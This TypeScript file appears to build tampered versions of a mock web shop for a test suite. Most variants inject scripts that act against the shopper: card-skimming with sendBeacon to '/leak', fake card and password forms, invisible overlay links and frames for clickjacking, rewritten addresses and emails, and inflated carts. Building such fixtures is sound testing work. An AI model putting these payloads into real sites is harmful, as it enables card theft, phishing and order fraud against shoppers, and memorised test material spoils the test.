import type { Draw } from './draw.ts';
import type { Family } from './family.ts';
import { miniShop, type Twist } from './mini-shop.ts';

const onSubmit = (code: string) =>
  `<script>document.getElementById('form').addEventListener('submit', () => { ${code} });</script>`;
const set = (id: string, value: string) => `document.getElementById('${id}').value = '${value}';`;

/** Scripts that change what is bought, where it goes, or where the card goes. */
const seen: Record<string, (draw: Draw) => Twist> = {
  'rewrites the address while it is typed': (draw) => ({
    after: `<script>setInterval(() => { const field = document.getElementById('line1'); if (field.value.length > 5) field.value = '${draw.int(1, 99)} Thief Street'; }, 200);</script>`,
  }),
  'rewrites the email when the card is typed': () => ({
    after: `<script>document.getElementById('card_number').addEventListener('input', () => { ${set('email', 'mallory@example.org')} });</script>`,
  }),
  'changes the quantity in the cart': (draw) => ({
    after: `<script>document.getElementById('card_cvc').addEventListener('input', () => { const n = ${draw.int(2, 99)}; document.getElementById('cart_quantity').value = n; document.getElementById('amount').value = 2400 * n + 500; document.getElementById('total').textContent = '$' + (24 * n + 5).toFixed(2); });</script>`,
  }),
  'puts something else in the cart': () => ({
    totals: (shown) =>
      `<tr><td>Gold Kettle × 1</td><td>$900.00</td></tr><tr><th>Total</th><td id="total">$${(Number(shown.slice(1)) + 900).toFixed(2)}</td></tr>`,
    after: '<input type="hidden" form="form" name="extra" value="Gold Kettle">',
    amount: (shown) => shown + 90_000,
  }),
  'says thank you before anything is paid': () => ({
    checkout:
      '<div class="success"><h1>Thank you for your order!</h1><p>Order number: 12345. Your order is confirmed.</p></div>',
  }),
  'says thank you on the product page': () => ({
    product: '<h1>Order confirmed</h1><p>Thank you! Order #555.</p>',
  }),
  'has many buttons that place the order': (draw) => ({
    checkout: Array.from(
      { length: draw.int(3, 9) },
      () =>
        '<button type="button" onclick="document.body.innerHTML=\'<h1>Thank you for your order #1</h1>\'">Place order</button>',
    ).join(''),
  }),
  'moves its button away': () => ({
    after:
      "<script>const b = document.getElementById('place'); b.style.position = 'relative'; b.addEventListener('mouseenter', () => { b.style.left = Math.random() * 600 + 'px'; b.style.top = Math.random() * 300 + 'px'; });</script>",
  }),
  'lays another button over its own': () => ({
    after: '<a href="/leak" style="position:fixed;inset:0;opacity:0.01;z-index:99">.</a>',
  }),
  'lays a frame over everything': () => ({
    after:
      '<iframe src="/cart" style="position:fixed;inset:0;width:100%;height:100%;opacity:0.01;z-index:99"></iframe>',
  }),
  'empties its form again and again': (draw) => ({
    after: `<script>setInterval(() => document.getElementById('form').reset(), ${draw.int(100, 900)});</script>`,
  }),
  'turns digits around': () => ({
    after:
      "<script>document.getElementById('card_number').addEventListener('input', ({ target }) => { target.value = [...target.value].reverse().join(''); });</script>",
  }),
  'makes its button flicker': () => ({
    after:
      "<script>setInterval(() => { const b = document.getElementById('place'); b.disabled = !b.disabled; }, 80);</script>",
  }),
  'swaps labels of its fields': () => ({
    after:
      "<script>for (const [id, text] of [['line1', 'City'], ['city', 'Address']]) document.querySelector('label[for=' + id + ']').textContent = text;</script>",
  }),
  'asks for the card before anything else': () => ({
    product:
      '<form action="/leak" method="post"><h2>Verify your age</h2><label>Card number <input name="card_number" autocomplete="cc-number"></label><label>CVC <input name="cvc" autocomplete="cc-csc"></label><button>Continue</button></form>',
  }),
  'asks for a password': () => ({
    checkout:
      '<form action="/leak" method="post"><label>Email <input name="u"></label><label>Password <input type="password" name="p" required></label><button>Continue</button></form>',
  }),
  // Only the order itself, on its way, tells of these.
  'rewrites the address as it is sent': () => ({ after: onSubmit(set('line1', '66 Thief Street')) }),
  'changes the quantity as it is sent': (draw) => ({
    after: onSubmit(set('cart_quantity', String(draw.int(2, 99)))),
  }),
};

const unseen: Record<string, (draw: Draw) => Twist> = {
  // On the shop's own host nobody can tell one path from another.
  'sends the card elsewhere': () => ({ payTo: '/leak' }),
  'copies the card as it is sent': () => ({
    after: onSubmit(
      "navigator.sendBeacon('/leak', new URLSearchParams(new FormData(document.getElementById('form'))));",
    ),
  }),
};

function family(canBeSeen: boolean, twists: typeof seen): Family[] {
  return Object.entries(twists).map(([name, twist]) => ({
    name,
    canBeSeen,
    serve: (draw) => miniShop(twist(draw)),
  }));
}

export const swaps: Family[] = [...family(true, seen), ...family(false, unseen)];
